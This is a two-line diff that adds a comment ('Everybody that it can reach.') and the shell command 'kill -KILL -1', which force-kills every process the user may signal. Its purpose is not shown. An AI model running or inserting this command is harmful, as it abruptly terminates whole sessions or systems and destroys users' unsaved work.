@@ -1,0 +1,2 @@
+# Everybody that it can reach.
+kill -KILL -1
